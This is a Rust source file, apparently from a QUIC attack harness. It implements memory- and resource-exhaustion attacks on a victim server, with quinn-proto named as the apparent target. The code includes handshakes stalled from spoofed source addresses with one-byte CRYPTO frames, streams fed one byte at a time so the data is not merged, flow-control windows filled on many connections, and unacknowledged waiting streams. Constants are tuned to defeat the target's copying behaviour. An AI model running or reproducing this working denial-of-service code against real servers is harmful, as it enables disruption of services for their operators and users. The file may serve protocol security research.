//! Attacks with little data in much memory, and with as much data as there is credit.

use std::{
    net::{SocketAddrV4, UdpSocket},
    thread,
    time::{Duration, Instant},
};

use anyhow::Result;

use super::{
    Prepared, VICTIM,
    forger::{self, Forger, any_source, owned_source},
    frames,
    initial::Initials,
    peer::{Introduction, OVERHEAD, Peer},
    pieces::{DATAGRAM, LARGE_DATAGRAM},
    run::Run,
};
use crate::attack::catalogue::{Holding, Size};

/// Sends one byte of CRYPTO data in each datagram of this many handshakes, from as many addresses.
///
/// If it proves the addresses, they are the attacker's; otherwise they belong to no host.
pub fn before_tls(handshakes: usize, size: Size, proves: bool, bytes: usize) -> Result<Prepared> {
    let length = match size {
        Size::Small => DATAGRAM,
        Size::Large => LARGE_DATAGRAM,
    };
    let mut forger = Forger::new()?;
    let ears = proves.then(forger::ears).transpose()?;
    let mut stalled = Vec::new();
    for number in 0..handshakes {
        let from = match ears {
            Some(_) => owned_source(number as u16),
            None => any_source(),
        };
        stalled.push((from, Initials::begin()?));
    }
    let chunks = (bytes / length / handshakes).min(CHUNKS);
    Ok(Box::new(move |run| {
        run.attacked.begun = handshakes as u64;
        // The first packet of a connection has to be small, and readable.
        let mut frame = Vec::new();
        frames::crypto(&mut frame, 1, &[0]);
        let begin = |run: &mut Run<'_>, forger: &mut Forger, (from, initials): &mut Stalled| {
            let datagram = initials.packet(&frame, DATAGRAM)?;
            forger.send(*from, &datagram)?;
            run.sent(1, datagram.len());
            anyhow::Ok(())
        };
        for handshake in &mut stalled {
            begin(run, &mut forger, handshake)?;
        }
        if let Some(ears) = &ears {
            let start = Instant::now();
            while start.elapsed() < RETRY {
                let Some(proven) = next_retry(ears)? else {
                    thread::sleep(RETRY / 100);
                    continue;
                };
                let source = proven.source();
                let asked = stalled
                    .iter_mut()
                    .find(|(_, initials)| initials.source() == source);
                if let Some(handshake) = asked {
                    handshake.1 = proven;
                    begin(run, &mut forger, handshake)?;
                }
            }
        }
        for chunk in 1..chunks as u64 {
            let mut frame = Vec::new();
            frames::crypto(&mut frame, chunk + 1, &[0]);
            for (from, initials) in &mut stalled {
                let datagram = initials.behind_another(&frame, length)?;
                forger.send(*from, &datagram)?;
                run.sent(1, datagram.len());
            }
        }
        run.attacked.amplified = Some(forger.amplified(run.linger)?);
        Ok(Vec::new())
    }))
}

type Stalled = (SocketAddrV4, Initials);

/// The Initial packets after the next Retry packet, if one has arrived.
fn next_retry(ears: &UdpSocket) -> Result<Option<Initials>> {
    let mut buffer = vec![0; DATAGRAM];
    while let Ok(length) = ears.recv(&mut buffer) {
        if let Some(initials) = Initials::after(&buffer[..length])? {
            return Ok(Some(initials));
        }
    }
    Ok(None)
}

/// Stream data that nobody reads, on one connection.
pub fn after_tls(how: Holding, bytes: usize) -> Result<Prepared> {
    let mut peer = Peer::dial(&Introduction::of_a_peer(VICTIM)?)?;
    Ok(Box::new(move |run| {
        run.attacked.begun = 1;
        match how {
            Holding::Padded => send_padded(run, &mut peer),
            _ => send_bytes(run, &mut peer, how, bytes),
        }
        peer.listen();
        run.attacked.ended = u64::from(peer.is_closed);
        Ok(vec![peer])
    }))
}

/// One byte at a time.
fn send_bytes(run: &mut Run<'_>, peer: &mut Peer, how: Holding, bytes: usize) {
    let most = match how {
        Holding::Batches => bytes / (BATCH * DATAGRAM),
        // Each of these is small.
        Holding::Single => bytes / SINGLE,
        _ => bytes / DATAGRAM,
    };
    let mut sent = 0;
    for offset in 1..=CHUNKS as u64 {
        let mut index = 0;
        // More streams are used as the victim permits them.
        while index < peer.max_streams {
            if sent >= most || peer.is_closed || !run.goes_on() {
                return;
            }
            let mut frame = Vec::new();
            frames::stream(&mut frame, 4 * index, offset, &[0]);
            send_byte(run, peer, how, &frame);
            index += 1;
            sent += 1;
            if sent % LISTEN_EVERY == 0 {
                peer.listen();
            }
        }
    }
}

fn send_byte(run: &mut Run<'_>, peer: &mut Peer, how: Holding, frame: &[u8]) {
    if how == Holding::Batches {
        let mut batch: Vec<u8> = (1..BATCH).flat_map(|_| peer.garbage(DATAGRAM)).collect();
        batch.extend(peer.packet(frame));
        peer.send_batch(&batch, DATAGRAM as u16);
        run.sent(BATCH as u64, batch.len());
        return;
    }
    let datagram = match how {
        Holding::Coalesced => peer.behind_another(frame, DATAGRAM),
        _ => peer.packet(frame),
    };
    peer.send(&datagram);
    run.sent(1, datagram.len());
}

/// Data that is just large enough not to be copied, in each datagram, until the credit is used up.
fn send_padded(run: &mut Run<'_>, peer: &mut Peer) {
    let (mut stream, mut offset, mut left) = (0, 0, peer.max_data);
    while left > 0 && !peer.is_closed && run.goes_on() {
        if offset >= PADDED * CHUNKS as u64 || offset >= peer.max_stream_data {
            (stream, offset) = (stream + 4, 0);
        }
        let length = PADDED.min(left).min(peer.max_stream_data - offset);
        let mut frame = Vec::new();
        frames::stream(&mut frame, stream, offset, &vec![0; length as usize]);
        let datagram = peer.padded(&frame, DATAGRAM);
        peer.send(&datagram);
        run.sent(1, datagram.len());
        offset += length;
        left -= length;
        if offset % (64 * PADDED) == 0 {
            peer.listen();
        }
    }
}

/// A whole window on each of this many connections.
pub fn windows(connections: usize) -> Result<Prepared> {
    let mut peers = Vec::new();
    for _ in 0..connections {
        // Each with a different peer ID.
        peers.push(Peer::dial(&Introduction::of_a_peer(VICTIM)?)?);
    }
    Ok(Box::new(move |run| {
        run.attacked.begun = connections as u64;
        for peer in &mut peers {
            let bytes = peer.max_data;
            send_window(run, peer, bytes);
            run.attacked.ended += u64::from(peer.is_closed);
        }
        Ok(peers)
    }))
}

/// This much data, in batches of full datagrams.
pub fn send_window(run: &mut Run<'_>, peer: &mut Peer, bytes: u64) {
    let (mut stream, mut offset, mut left) = (0, 0, bytes.min(peer.max_data));
    let room = (DATAGRAM - OVERHEAD - FRAME) as u64;
    let mut batch = Vec::new();
    let mut count = 0;
    while left > 0 && !peer.is_closed && run.goes_on() {
        if offset >= peer.max_stream_data {
            (stream, offset) = (stream + 4, 0);
        }
        let length = room.min(left).min(peer.max_stream_data - offset);
        let mut frame = Vec::new();
        frames::stream(&mut frame, stream, offset, &vec![0; length as usize]);
        batch.extend(peer.padded(&frame, DATAGRAM));
        count += 1;
        offset += length;
        left -= length;
        if count == BATCH || left == 0 {
            peer.send_batch(&batch, DATAGRAM as u16);
            run.sent(count as u64, batch.len());
            batch.clear();
            count = 0;
            peer.listen();
        }
    }
}

/// Streams on which this many connections wait for data, without acknowledging it.
pub fn answers(connections: usize) -> Result<Prepared> {
    let mut peers = Vec::new();
    for _ in 0..connections {
        peers.push(Peer::dial(&Introduction::of_a_peer(VICTIM)?.patient())?);
    }
    Ok(Box::new(move |run| {
        run.attacked.begun = connections as u64;
        for peer in &mut peers {
            let mut frame = Vec::new();
            frames::stream(&mut frame, 0, 0, &[0]);
            let datagram = peer.packet(&frame);
            peer.send(&datagram);
            run.sent(1, datagram.len());
        }
        // Until the victim's application has written what it can.
        thread::sleep(WRITING);
        Ok(peers)
    }))
}

/// Chunks of each stream or handshake: fewer than make quinn-proto copy them together.
const CHUNKS: usize = 2000;

/// Datagrams of a batch: more than half of what is read at once.
const BATCH: usize = 24;

/// Data in a datagram: the least that is not copied.
const PADDED: u64 = 581;

/// Bytes of a STREAM frame besides its data.
const FRAME: usize = 1 + 2 + 4 + 2;

/// More than a datagram with one byte takes of the victim's memory.
const SINGLE: usize = 400;

/// How long Retry packets may take.
const RETRY: Duration = Duration::from_millis(300);

const LISTEN_EVERY: usize = 64;

const WRITING: Duration = Duration::from_secs(1);
